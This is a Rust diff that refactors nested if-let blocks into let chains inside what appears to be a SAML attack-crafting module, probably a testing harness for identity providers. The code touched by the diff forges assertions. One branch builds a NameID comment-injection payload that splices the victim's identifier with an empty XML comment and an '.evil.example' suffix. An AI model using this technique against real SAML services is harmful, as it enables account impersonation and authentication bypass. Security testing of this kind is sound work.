@@ -176,10 +176,10 @@ pub struct AttackInput<'a> {
 }
 
 fn set_name_id(assertion: &mut Element, name_id: &str) {
-    if let Some(subject) = assertion.child_mut(NS_SAML, "Subject") {
-        if let Some(n) = subject.child_mut(NS_SAML, "NameID") {
-            n.set_text(name_id);
-        }
+    if let Some(subject) = assertion.child_mut(NS_SAML, "Subject")
+        && let Some(n) = subject.child_mut(NS_SAML, "NameID")
+    {
+        n.set_text(name_id);
     }
     if let Some(stmt) = assertion.child_mut(NS_SAML, "AttributeStatement") {
         for attr in stmt.elements_mut() {
@@ -283,17 +283,16 @@ pub fn craft(attack: Attack, input: &AttackInput<'_>) -> Result<String, IdpError
             let mut doc =
                 parse(&spec(input, &attacker).to_xml(key)?).map_err(|e| bad(&e.to_string()))?;
             let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
-            if let Node::Element(a) = &mut doc.children[i] {
-                if let Some(n) = a
+            if let Node::Element(a) = &mut doc.children[i]
+                && let Some(n) = a
                     .child_mut(NS_SAML, "Subject")
                     .and_then(|s| s.child_mut(NS_SAML, "NameID"))
-                {
-                    n.children = vec![
-                        Node::Text(victim.name_id.clone()),
-                        Node::Comment(String::new()),
-                        Node::Text(".evil.example".into()),
-                    ];
-                }
+            {
+                n.children = vec![
+                    Node::Text(victim.name_id.clone()),
+                    Node::Comment(String::new()),
+                    Node::Text(".evil.example".into()),
+                ];
             }
             Ok(doc.to_xml())
         }
